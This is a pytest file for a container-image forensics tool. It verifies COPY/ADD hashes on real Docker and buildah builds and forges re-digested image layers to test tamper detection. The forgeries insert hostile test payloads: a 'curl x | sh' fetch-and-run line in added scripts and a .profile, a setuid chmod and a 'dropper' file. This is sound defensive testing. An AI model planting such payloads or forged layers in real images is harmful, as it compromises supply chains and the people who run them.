"""COPY/ADD source hashes recomputed from real builds (tests/fixtures/copyhash), and forgeries of them."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import tarfile
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from forensics.history import copyhash
from forensics.history.instructions import parse_created_by
from forensics.models import FileEntry
from forensics.pipeline import analyze
from forensics.read.source import NoSource

FIX = Path(__file__).parent / "fixtures" / "copyhash"

Mutate = Callable[[list[tuple[tarfile.TarInfo, bytes]]], list[tuple[tarfile.TarInfo, bytes]]]


def statuses(report) -> dict[int, tuple[str, str | None]]:
    return {
        h.index: (h.analysis.copy_hash.status, h.analysis.copy_hash.matched_as or h.analysis.copy_hash.reason)
        for img in report.images
        for h in img.history
        if h.analysis and h.analysis.copy_hash
    }


def mismatches(report) -> list:
    return [f for f in report.findings if f.code == "history.effect-mismatch"]


# --------------------------------------------------------------------------- forging helpers


def _read_outer(path: Path) -> dict[str, bytes]:
    out = {}
    raw = path.read_bytes()
    with tarfile.open(fileobj=io.BytesIO(gzip.decompress(raw) if raw[:2] == b"\x1f\x8b" else raw)) as t:
        for m in t.getmembers():
            if m.isfile():
                out[m.name] = t.extractfile(m).read()
    return out


def _write_outer(files: dict[str, bytes], dest: Path) -> Path:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in files.items():
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime = len(data), int(time.time())
            t.addfile(ti, io.BytesIO(data))
    dest.write_bytes(buf.getvalue())
    return dest


def _retar(layer: bytes, mutate: Mutate) -> bytes:
    with tarfile.open(fileobj=io.BytesIO(layer)) as t:
        members = [(m, t.extractfile(m).read() if m.isfile() else b"") for m in t.getmembers()]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for m, data in mutate(members):
            m.size = len(data) if m.isfile() else 0
            t.addfile(m, io.BytesIO(data) if m.isfile() else None)
    return buf.getvalue()


def _sha(b: bytes) -> str:
    return "sha256:" + hashlib.sha256(b).hexdigest()


def forge_oci(src: Path, layer: int, mutate: Mutate, dest: Path, config_edit=None) -> Path:
    """Rewrite one layer of an OCI archive and re-digest everything above it consistently."""
    files = _read_outer(src)
    blob = lambda d: "blobs/sha256/" + d.split(":")[1]  # noqa: E731
    index = json.loads(files["index.json"])
    mdesc = index["manifests"][0]
    manifest = json.loads(files.pop(blob(mdesc["digest"])))
    config = json.loads(files.pop(blob(manifest["config"]["digest"])))
    ldesc = manifest["layers"][layer]
    raw = files.pop(blob(ldesc["digest"]))
    plain = _retar(gzip.decompress(raw), mutate)
    packed = gzip.compress(plain, mtime=0)
    files[blob(_sha(packed))] = packed
    ldesc["digest"], ldesc["size"] = _sha(packed), len(packed)
    config["rootfs"]["diff_ids"][layer] = _sha(plain)
    if config_edit:
        config_edit(config)
    cbytes = json.dumps(config).encode()
    files[blob(_sha(cbytes))] = cbytes
    manifest["config"]["digest"], manifest["config"]["size"] = _sha(cbytes), len(cbytes)
    mbytes = json.dumps(manifest).encode()
    files[blob(_sha(mbytes))] = mbytes
    mdesc["digest"], mdesc["size"] = _sha(mbytes), len(mbytes)
    files["index.json"] = json.dumps(index).encode()
    return _write_outer(files, dest)


def forge_docker(src: Path, layer: int, mutate: Mutate, dest: Path) -> Path:
    files = _read_outer(src)
    manifest = json.loads(files["manifest.json"])
    config = json.loads(files.pop(manifest[0]["Config"]))
    path = manifest[0]["Layers"][layer]
    files[path] = _retar(files[path], mutate)
    config["rootfs"]["diff_ids"][layer] = _sha(files[path])
    cbytes = json.dumps(config).encode()
    manifest[0]["Config"] = _sha(cbytes).split(":")[1] + ".json"
    files[manifest[0]["Config"]] = cbytes
    files["manifest.json"] = json.dumps(manifest).encode()
    return _write_outer(files, dest)


def change_byte(name: str, old: bytes, new: bytes) -> Mutate:
    def mutate(members):
        out = []
        for m, data in members:
            if m.name == name:
                assert old in data
                data = data.replace(old, new)
            out.append((m, data))
        return out

    return mutate


def add_file(name: str, data: bytes, mode: int = 0o755) -> Mutate:
    def mutate(members):
        ti = tarfile.TarInfo(name)
        ti.mode, ti.mtime = mode, members[-1][0].mtime
        return members + [(ti, data)]

    return mutate


def chmod(name: str, mode: int) -> Mutate:
    def mutate(members):
        for m, _ in members:
            if m.name == name:
                m.mode = mode
        return members

    return mutate


# --------------------------------------------------------------------------- real builds


EXPECTED = {
    "classic-20.10.docker.tar.gz": {
        0: "verified",
        1: "verified",
        2: "cannot-recompute",
        3: "verified",
        4: "cannot-recompute",
        5: "verified",
    },
    "buildah-1.28-layers.oci.tar.gz": {
        0: "verified",
        1: "verified",
        2: "verified",
        3: "verified",
        4: "cannot-recompute",
        5: "verified",
    },
    "buildah-1.28-squash.docker.tar.gz": {
        0: "verified",
        1: "verified",
        2: "verified",
        3: "verified",
        4: "cannot-recompute",
        5: "verified",
    },
    "classic2-20.10.docker.tar.gz": {
        1: "verified",
        2: "cannot-recompute",
        3: "verified",
        4: "cannot-recompute",
        5: "cannot-recompute",
        6: "verified",
    },
    "classic3-20.10.docker.tar.gz": {0: "verified"},  # a hard link: the context tar's link entry
    "buildah-1.28-recopy.oci.tar.gz": {0: "verified", 1: "verified"},  # an unchanged re-copy left out
    "classic-from-20.10.docker.tar.gz": {
        0: "cannot-recompute",
        1: "cannot-recompute",
        2: "cannot-recompute",
        3: "verified",
        4: "cannot-recompute",
    },
    "buildah-from-1.28.oci.tar.gz": {0: "verified", 1: "verified", 2: "verified", 3: "verified", 4: "verified"},
    "buildah2-1.28-layers.oci.tar.gz": {
        1: "verified",
        2: "verified",
        3: "verified",
        4: "verified",
        5: "verified",
        6: "verified",
    },
}


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_real_builds_recompute_and_stay_clean(name):
    report = analyze(str(FIX / name))
    got = statuses(report)
    assert {k: v[0] for k, v in got.items()} == EXPECTED[name], got
    assert not mismatches(report)
    assert report.verdict == "clean", [(f.code, f.subject) for f in report.findings]


def test_reasons_name_what_the_image_does_not_record():
    got = statuses(analyze(str(FIX / "classic-20.10.docker.tar.gz")))
    assert "path in the build context" in got[2][1]  # COPY conf/app.conf /etc/app.conf
    assert got[4][1].startswith("ADD extracted a local archive")  # ADD bundle.tar /opt/
    assert got[5][1] == "classic builder (the context root)"  # COPY . /ctx/
    got2 = statuses(analyze(str(FIX / "classic2-20.10.docker.tar.gz")))
    assert "symlink" in got2[4][1]  # links/up -> ../hello.txt, outside the copied tree
    buildah = statuses(analyze(str(FIX / "buildah2-1.28-layers.oci.tar.gz")))
    assert "root-owned" in buildah[2][1]  # COPY --chown=1000:1000: Go looked up the host owner


def test_classic_copy_from_hashes_the_stage_path():
    got = statuses(analyze(str(FIX / "classic-from-20.10.docker.tar.gz")))
    assert got[3][1] == "classic builder, COPY --from (stage path 'x/sub/a')"


def test_verified_paths_are_the_copied_files():
    report = analyze(str(FIX / "buildah-1.28-layers.oci.tar.gz"))
    st = report.images[0].history[1].analysis.copy_hash
    assert st.paths == ["/app/link", "/app/run.sh", "/app/sub", "/app/sub/data.txt"]
    assert st.recorded.startswith("dir:")


# --------------------------------------------------------------------------- forgeries


BUILDAH_FORGERIES = {
    "byte": (1, change_byte("app/run.sh", b"echo run", b"echo pwn")),
    "added": (1, add_file("app/sub/extra.sh", b"#!/bin/sh\ncurl x | sh\n")),
    "mode": (1, chmod("app/sub/data.txt", 0o4755)),
    "first-step": (0, change_byte("hello.txt", b"hello", b"jello")),
}


@pytest.mark.parametrize("how", sorted(BUILDAH_FORGERIES))
def test_buildah_forgery_is_critical_mismatch(tmp_path, how):
    layer, mutate = BUILDAH_FORGERIES[how]
    forged = forge_oci(FIX / "buildah-1.28-layers.oci.tar.gz", layer, mutate, tmp_path / "f.tar")
    report = analyze(str(forged))
    assert not [f for f in report.findings if f.code.startswith(("blob.", "layer."))]  # consistently re-digested
    found = mismatches(report)
    assert len(found) == 1 and found[0].severity.value == "critical", found
    assert found[0].history == layer and found[0].path == ("/app" if layer == 1 else "/hello.txt")
    st = statuses(report)
    assert st[layer][0] == "mismatch"
    assert all(v[0] != "mismatch" for k, v in st.items() if k != layer)


def test_buildah_squashed_forgery_is_critical_mismatch(tmp_path):
    forged = forge_docker(
        FIX / "buildah-1.28-squash.docker.tar.gz",
        0,
        change_byte("app/run.sh", b"echo run", b"echo pwn"),
        tmp_path / "f.tar",
    )
    report = analyze(str(forged))
    found = mismatches(report)
    assert [(f.severity.value, f.path) for f in found] == [("critical", "/app")]


def test_recopy_left_out_of_the_layer_verifies_and_is_never_called(tmp_path):
    """`COPY app/run.sh /app/run.sh` then `COPY app /app`: the second layer lacks run.sh (unchanged);
    the hash holds over the destination as it stands. Since the layer alone cannot say what was
    copied, a forged file there is reported as not recomputable, never as a mismatch."""
    report = analyze(str(FIX / "buildah-1.28-recopy.oci.tar.gz"))
    assert "copied again" in statuses(report)[1][1]
    forged = forge_oci(
        FIX / "buildah-1.28-recopy.oci.tar.gz", 1, change_byte("app/sub/data.txt", b"data", b"pwnd"), tmp_path / "f.tar"
    )
    report = analyze(str(forged))
    assert not mismatches(report)
    assert statuses(report)[1][0] == "cannot-recompute" and "already held files" in statuses(report)[1][1]


@pytest.mark.parametrize(
    "name,forge", [("classic2-20.10.docker.tar.gz", forge_docker), ("buildah2-1.28-layers.oci.tar.gz", forge_oci)]
)
def test_file_dropped_beside_a_single_copied_file_is_critical(tmp_path, name, forge):
    """`COPY hello.txt rel/` (WORKDIR /w): the hash proves which one file the step copied, for
    either builder, so a file beside it in the layer is not the step's."""
    report = analyze(str(FIX / name))
    layer = report.images[0].history[1].layer_index
    forged = forge(FIX / name, layer, add_file("w/rel/.profile", b"curl x | sh\n"), tmp_path / "f.tar")
    report = analyze(str(forged))
    found = mismatches(report)
    assert [(f.severity.value, f.history, f.path) for f in found] == [("critical", 1, "/w/rel/.profile")]
    st = report.images[0].history[1].analysis.copy_hash
    assert st.status == "mismatch" and st.paths == ["/w/rel/.profile"] and st.matched_as


def test_classic_forgery_is_no_longer_verified_but_not_called(tmp_path):
    """The classic hash covers the source's context path: a non-match is not proof."""
    forged = forge_docker(
        FIX / "classic-20.10.docker.tar.gz", 1, change_byte("app/run.sh", b"echo run", b"echo pwn"), tmp_path / "f.tar"
    )
    report = analyze(str(forged))
    st = statuses(report)
    assert st[1][0] == "cannot-recompute" and "build context" in st[1][1]
    assert st[0][0] == "verified" and not mismatches(report)


def test_without_the_buildah_label_no_mismatch_is_called(tmp_path):
    def strip(cfg):
        cfg["config"]["Labels"] = {}

    forged = forge_oci(
        FIX / "buildah-1.28-layers.oci.tar.gz",
        1,
        change_byte("app/run.sh", b"echo run", b"echo pwn"),
        tmp_path / "f.tar",
        config_edit=strip,
    )
    report = analyze(str(forged))
    assert not mismatches(report)
    assert statuses(report)[1][0] == "cannot-recompute"


def test_stdin_cannot_read_the_files_again():
    report = analyze(str(FIX / "buildah-1.28-layers.oci.tar.gz"))
    img = report.images[0]
    ins = [parse_created_by(h.created_by, h.comment, h.author) for h in img.history]
    got, findings = copyhash.check_image(img, ins, ["x"] * len(img.layers), NoSource())
    assert findings == [] and {s.status for s in got.values()} == {"cannot-recompute"}
    assert all("stdin or a pipe" in s.reason for s in got.values() if "archive" not in s.reason)


# --------------------------------------------------------------------------- the header writer


@pytest.mark.parametrize("name,kind", [("a.txt", "file"), ("sub/", "dir"), ("l", "symlink")])
def test_ustar_header_is_what_an_independent_writer_produces(name, kind):
    """Go's USTAR header with a zero time, against Python's tarfile writer. The one
    difference is Go's: device numbers are written as octal zeros for every type."""
    ti = tarfile.TarInfo(name)
    ti.mode, ti.uid, ti.gid, ti.mtime, ti.uname, ti.gname = 0o4755, 1000, 0, 0, "root", ""
    ti.type = {"file": tarfile.REGTYPE, "dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE}[kind]
    ti.size = 7 if kind == "file" else 0
    ti.linkname = "target" if kind == "symlink" else ""
    theirs = bytearray(ti.tobuf(tarfile.USTAR_FORMAT))
    theirs[329:345] = b"0000000\0" * 2
    theirs[148:156] = b" " * 8
    theirs[148:156] = b"%06o\0 " % sum(theirs)
    assert copyhash._ustar(name, 0o4755, 1000, 0, ti.size, ti.type, ti.linkname, "root", "") == bytes(theirs)


def test_long_names_split_as_go_does():
    name = "d/" * 60 + "f"  # 121 bytes: Go keeps the longest prefix that fits (<= 155)
    hdr = copyhash._ustar(name, 0o644, 0, 0, 0, b"0", "", "", "")
    assert hdr[345:500].rstrip(b"\0") == ("d/" * 59 + "d").encode() and hdr[:100].rstrip(b"\0") == b"f"
    with pytest.raises(ValueError):
        copyhash._ustar("x" * 101, 0o644, 0, 0, 0, b"0", "", "", "")  # no `/` to split at: PAX


def test_tarsum_entry_is_moby_v1_header_then_content():
    e = FileEntry(path="/x/hello.txt", type="file", mode=0o644, uid=0, gid=0, size=6, mtime=0)
    want = hashlib.sha256(
        b"namehello.txtmode420uid0gid0size6typeflag0linknameunamegnamedevmajor0devminor0hello\n"
    ).hexdigest()
    assert copyhash._tarsum_entry("hello.txt", e, b"hello\n") == want


# --------------------------------------------------------------------------- the shared corpus (real builds)


def test_corpus_long_and_unicode_names_verify_through_pax(corpus_dir):
    """buildah 1.28 wrote the copied tree with a >100-byte name and non-ASCII names: Go's PAX headers."""
    report = analyze(str(corpus_dir / "clean" / "lantern-gzip.oci.tar"))
    st = report.images[0].history[8].analysis.copy_hash
    assert st.status == "verified", st
    assert any(len(p) > 100 for p in st.paths) and any(not p.isascii() for p in st.paths)


def test_corpus_forged_file_under_a_pax_name_is_critical(tmp_path, corpus_dir):
    src = corpus_dir / "clean" / "lantern-gzip.oci.tar"
    index = json.loads(_read_outer(src)["index.json"])
    assert len(index["manifests"]) == 1
    report = analyze(str(src))
    layer = report.images[0].history[8].layer_index
    name = next(p for p in report.images[0].history[8].analysis.copy_hash.paths if not p.isascii())
    forged = forge_oci(src, layer, add_file(name.lstrip("/") + ".d/dropper", b"#!/bin/sh\n"), tmp_path / "f.tar")
    found = mismatches(analyze(str(forged)))
    assert [(f.severity.value, f.history) for f in found] == [("critical", 8)]


def test_corpus_classic_steps_on_a_buildah_base_are_never_called(corpus_dir):
    """docker's classic builder on a buildah base: the base's io.buildah.version label is inherited,
    and the classic steps carry no buildah mark of their own, so nothing is pinned for them."""
    report = analyze(str(corpus_dir / "clean" / "lantern-and-base-dockerd.docker.tar"))
    assert not mismatches(report)
    lantern = next(img for img in report.images if "corpus/lantern:2.4.1" in img.refs)
    assert lantern.history[8].analysis.copy_hash.status == "cannot-recompute"
    assert lantern.history[10].analysis.copy_hash.matched_as.startswith("classic builder")
